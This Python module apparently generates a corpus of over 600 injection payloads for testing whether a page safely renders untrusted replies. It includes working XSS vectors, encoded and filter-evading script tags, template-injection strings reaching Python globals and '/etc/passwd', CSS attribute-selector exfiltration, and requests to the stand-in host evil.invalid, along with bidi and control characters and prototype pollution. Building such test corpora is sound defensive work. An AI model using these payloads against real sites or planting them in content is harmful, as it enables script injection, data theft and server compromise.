"""Replies that want out of the page they are shown in: more than 600, each another one.

Every payload that runs does the same: it calls `pwned(...)`, or asks for something outside under EVIL.
"""

from __future__ import annotations

from collections.abc import Iterator

EVIL = "http://evil.invalid"
CALL = "pwned(1)"

_CALLS = (
    CALL,
    "window['pwned'](1)",
    f"fetch('{EVIL}/f')",
    f"location='{EVIL}/l'",
    "alert(1)",
    "document.body.dataset.pwned=1",
)
_EVENT_NAMES = """
onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerdown onbegin onpageshow onhashchange
onbeforeprint oncut onwheel onresize
"""
_TAG_NAMES = """
img svg video audio body input details iframe object embed math marquee select textarea button form a link style meta
base template dialog
"""
_EVENTS, _TAGS = _EVENT_NAMES.split(), _TAG_NAMES.split()
_CLOSERS = (
    "</script>",
    "</SCRIPT >",
    "</script/x>",
    "</style>",
    "</template>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</svg>",
    "</dd></dl></article>",
    "</p></div></section></main>",
    "-->",
    "]]>",
    "--!>",
    "<!--<script>",
    '"}]}</script>',
    "'});//",
    '\\u003c/script\\u003e"',
    "`}${",
    "\x00</script>",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# hidden #}",
    "${7*7}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "{{constructor.constructor('pwned(1)')()}}",
    "*{7*7}",
    "@{7*7}",
    "{{= it }}",
    "{{{raw}}}",
    "{%- for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ lipsum.__globals__ }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ '<script>pwned(1)</script>' | safe }}",
    "%7B%7B7*7%7D%7D",
)
_URLS = (
    "javascript:pwned(1)",
    "JaVaScRiPt:pwned(1)",
    "java\tscript:pwned(1)",
    "java\nscript:pwned(1)",
    "\x01javascript:pwned(1)",
    "data:text/html,<script>pwned(1)</script>",
    "data:image/svg+xml,<svg onload='pwned(1)'/>",
    "vbscript:pwned(1)",
    f"{EVIL}/x",
    "//evil.invalid/x",
    "\\\\evil.invalid\\x",
    "blob:null/x",
    "filesystem:null/x",
    "view-source:x",
)
_STYLES = (
    f"@import '{EVIL}/i.css'",
    f"*{{background:url({EVIL}/b)}}",
    "*{display:none!important}",
    f"@font-face{{font-family:x;src:url({EVIL}/f)}}",
    "body{behavior:url(#x)}",
    "*{position:fixed;inset:0;z-index:9999}",
    f"input[value^=a]{{background:url({EVIL}/a)}}",
    ":root{--paper:red}",
    "x{width:expression(pwned(1))}",
    "*{content:attr(title)}",
)
_UNSEEN = (
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200f",
    "\u200e",
    "\u200b",
    "\u2060",
    "\ufeff",
    "\u2028",
    "\u2029",
    "\x00",
    "\x07",
    "\x08",
    "\x1b[31m",
    "\x1b]8;;http://evil.invalid\x07",
    "\r",
    "\x85",
    "\x9b31m",
    "\ud800",
    "\udfff",
    "\ue000",
    "\U000e0041",
    "\xad",
)
_QUOTES = ('"', "'", "`", "&quot;", "&#34;", "\\x22", "\\u0022", "%22")
_ENCODED = (
    "&lt;script&gt;pwned(1)&lt;/script&gt;",
    "&#60;script&#62;pwned(1)&#60;/script&#62;",
    "\\x3cscript\\x3epwned(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003epwned(1)\\u003c/script\\u003e",
    "%3Cscript%3Epwned(1)%3C/script%3E",
    "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1epwned(1)\uff1c/script\uff1e",
    "<scr<script>ipt>pwned(1)</scr</script>ipt>",
    "<<script>pwned(1)//<</script>",
    "<script\x0c>pwned(1)</script>",
    "<script/src=data:,pwned(1)></script>",
    "<script src=//evil.invalid/s></script>",
)


def payloads() -> list[str]:
    """All of them, distinct, in one order."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for call in _CALLS:
        yield f"<script>{call}</script>"
        yield f"<svg><script>{call}</script></svg>"
        yield f"<math><mtext></form><form><mglyph><style></math><img src onerror={call}>"
        for closer in _CLOSERS:
            yield f"{closer}<script>{call}</script>"
    for tag in _TAGS:
        for event in _EVENTS:
            yield f"<{tag} {event}={CALL} autofocus tabindex=1 src=x>"
        for url in _URLS[:6]:
            yield f'<{tag} href="{url}" src="{url}" action="{url}" data="{url}">x</{tag}>'
    for closer in _CLOSERS:
        yield closer
        yield f"{closer}<img src=x onerror={CALL}>"
    for quote in _QUOTES:
        for event in _EVENTS[:6]:
            yield f"{quote} {event}={quote}{CALL}{quote} x={quote}"
        yield f"{quote}><svg onload={CALL}>"
    for style in _STYLES:
        yield f"<style>{style}</style>"
        yield f'" style="{style}'
        yield f"</style><style>{style}"
    yield from _TEMPLATES
    yield from _URLS
    yield from _ENCODED
    for mark in _UNSEEN:
        yield f"safe{mark}<b>after</b>"
        yield f"{mark}{mark}evil{mark}"
        yield f"<a href='{mark}javascript:{CALL}'>x</a>"
    yield from (f'<meta http-equiv="refresh" content="0;url={url}">' for url in _URLS)
    yield from (
        f'<link rel="{rel}" href="{EVIL}/r">' for rel in ("stylesheet", "preload", "icon", "prefetch", "import")
    )
    yield from (f'<base href="{EVIL}/">', '<div id="island"></div>', '<form id="list"><input name="items"></form>')
    yield from ('{"id":["x"],"__proto__":{"pwned":1}}', "__proto__", "constructor", "toString", "#item=../../x")
    yield f"<script>{CALL}" + "</script" * 50
    yield "<" * 3000 + "script>"
    yield "(" * 2000 + "{{" * 500
